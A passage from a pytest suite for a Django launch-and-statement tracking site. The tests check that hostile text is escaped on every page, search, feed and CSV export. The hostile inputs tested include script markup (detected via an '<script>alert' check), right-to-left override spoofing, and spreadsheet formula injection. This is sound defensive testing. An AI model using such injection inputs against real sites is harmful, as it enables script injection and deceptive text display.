        "event": event,
        "source": source,
        "speaker": speaker,
        "statement": statement,
        "actor": actor,
    }


PAGES = {
    "timeline": lambda h: "/",
    "launch": lambda h: h["launch"].get_absolute_url(),
    "event": lambda h: h["event"].get_absolute_url(),
    "actor": lambda h: h["actor"].get_absolute_url(),
    "search": lambda h: f"/search/?q={h['text']}",
    "matrix": lambda h: "/matrix/",
}


@pytest.mark.parametrize("page", list(PAGES))
def test_every_page_shows_hostile_text_escaped_and_inert(client, hostile, page):
    text = hostile["text"]
    response = client.get(PAGES[page](hostile), {"q": text} if page == "search" else None)
    html = response.content.decode()
    assert response.status_code == 200
    assert "Content-Security-Policy" in response.headers
    assert escape(text) in html
    if text in MARKUP:
        assert text not in html
    assert not [fragment for fragment in LIVE_MARKUP if fragment in html]


class Isolation(HTMLParser):
    """Each piece of a page's text holding `mark`, with the text of the innermost element that
    isolates it from the text around it (a <bdi>, or any element with dir="auto"), or None."""

    VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "wbr"}
    # Text that cannot hold elements, so nothing in it can be isolated: the window's title.
    RAW = {"title", "script", "style"}

    def __init__(self, mark):
        super().__init__(convert_charrefs=True)
        self.mark, self.open, self.found = mark, [], []

    def handle_starttag(self, tag, attrs):
        if tag not in self.VOID:
            isolates = tag == "bdi" or dict(attrs).get("dir") == "auto"
            self.open.append((tag, [] if isolates else None))

    def handle_endtag(self, tag):
        while self.open and self.open.pop()[0] != tag:
            pass

    def handle_data(self, data):
        for _, text in self.open:
            if text is not None:
                text.append(data)
        if self.mark not in data or (self.open and self.open[-1][0] in self.RAW):
            return
        isolating = [text for _, text in self.open if text is not None]
        self.found.append((data, isolating[-1] if isolating else None))

    def pieces(self, html):
        """(text piece, the whole text of its innermost isolating element, or None)."""
        self.feed(html)
        self.close()
        # The isolating element's text is complete only once the page has been read.
        return [(data, "".join(text) if text is not None else None) for data, text in self.found]


RTL_OVERRIDE = PAYLOADS["rtl-override"]


@pytest.mark.parametrize("hostile", [RTL_OVERRIDE], indirect=True, ids=["rtl-override"])
@pytest.mark.parametrize("page", list(PAGES))
def test_every_page_isolates_each_name_quote_and_title_from_the_text_around_it(
    client, hostile, page
):
    response = client.get(PAGES[page](hostile), {"q": "evil"} if page == "search" else None)
    assert response.status_code == 200
    pieces = Isolation("\u202e").pieces(response.content.decode())
    assert pieces
    # An override can only reach the end of the element isolating it: that element must hold
    # the analyst's text alone, not the punctuation and labels around it.
    assert [data for data, isolated in pieces if isolated != RTL_OVERRIDE] == []


ATOM = "{http://www.w3.org/2005/Atom}"
FEEDS = {
    "launches": lambda h: reverse("timeline:launch-feed"),
    "statements": lambda h: reverse("reactions:statement-feed"),
    "actor": lambda h: reverse("reactions:actor-feed", args=[h["actor"].code]),
}


@pytest.mark.parametrize("feed", list(FEEDS))
def test_every_feed_stays_well_formed_with_hostile_text(client, hostile, feed):
    text = hostile["text"]
    response = client.get(FEEDS[feed](hostile))
    assert response.status_code == 200
    root = ET.fromstring(response.content)
    entries = root.findall(f"{ATOM}entry")
    assert entries
    if feed == "launches":
        (entry,) = entries
        assert (
            entry.findtext(f"{ATOM}title")
            == f"Short-range ballistic (SRBM) launch, 1 March 2024 ({text})"
        )
        assert entry.findtext(f"{ATOM}summary") == escape(text)
    else:
        said = {
            e.findtext(f"{ATOM}author/{ATOM}name"): e.findtext(f"{ATOM}summary") for e in entries
        }
        speaker = hostile["speaker"]
        assert said[text] == escape(f"“{text}” — {speaker}")
        if feed == "statements":
            assert said["Russia"] == escape(f"Reported speech: {text}")
    if text in MARKUP:
        assert text.encode() not in response.content


# (resource, record key, {column: field value it exports})
API_EXPORTS = {
    "launches": lambda h: dict.fromkeys(TEXT_FIELDS[Launch], h["text"]),
    "events": lambda h: dict.fromkeys(TEXT_FIELDS[Event], h["text"]),
    "links": lambda h: {"rationale": h["text"]},
    "claims": lambda h: {"value_text": h["text"], "claimant": h["text"], "note": h["text"]},
    "sources": lambda h: {"title": h["text"], "publisher": h["text"], "url": MARKUP_URL},
    "speakers": lambda h: {"name": h["text"], "role": h["text"]},
    "statements": lambda h: {
        "quote": h["text"],
        "original_text": h["text"],
        "summary": h["text"],
        "via": h["text"],
        "speaker_name": str(h["speaker"]),
    },
}


def csv_rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize("resource", list(API_EXPORTS))
def test_the_api_csv_neutralises_formulas_and_alters_nothing_else(editor_api, hostile, resource):
    rows = csv_rows(editor_api.get(f"/api/v1/{resource}/", {"format": "csv"}))
    expected = API_EXPORTS[resource](hostile)
    exported = [{column: row[column] for column in expected} for row in rows]
    assert {column: as_exported(value) for column, value in expected.items()} in exported


ADMIN_EXPORTS = {
    Launch: lambda h: (
        dict.fromkeys(
            ("time_note", "missile_name", "launch_site", "direction", "summary"), h["text"]
        )
        | {"reporting_authority": h["text"]}
    ),
    Event: lambda h: dict.fromkeys(["title", "location", "participants", "description"], h["text"]),
    Source: lambda h: {"title": h["text"], "publisher": h["text"], "url": MARKUP_URL},
    LaunchClaim: lambda h: dict.fromkeys(["value_text", "claimant", "note"], h["text"]),
    Link: lambda h: {"rationale": h["text"], "source": h["text"]},
    Speaker: lambda h: {"name": h["text"], "role": h["text"], "actor": h["text"]},
    Statement: lambda h: {
        "quote": h["text"],
        "summary": h["text"],
        "via": h["text"],
        "actor": h["text"],
        "source": h["text"],
        "speaker": str(h["speaker"]),
    },
}


@pytest.mark.parametrize("model", list(ADMIN_EXPORTS), ids=lambda m: m._meta.model_name)
def test_the_admin_csv_export_neutralises_formulas_and_alters_nothing_else(editor, hostile, model):
    selected = list(model.objects.values_list("pk", flat=True))
    response = editor.post(
        admin_url(model, "changelist"),
        {"action": "export_csv", "_selected_action": selected, "index": 0},
    )
    expected = ADMIN_EXPORTS[model](hostile)
    exported = [{column: row[column] for column in expected} for row in csv_rows(response)]
    assert {column: as_exported(value) for column, value in expected.items()} in exported


def test_pages_search_and_feeds_keep_working_around_a_megabyte_quote(client, world):
    StatementFactory(launch=world["launch"], quote=megabyte_quote(), status=Status.PUBLISHED)
    for url in ("/", world["launch"].get_absolute_url(), "/search/?q=w12345x", "/actors/US/"):
        response = client.get(url)
        assert response.status_code == 200
        assert "<script>alert" not in response.content.decode()
    feed = client.get(reverse("reactions:statement-feed"))
    ET.fromstring(feed.content)
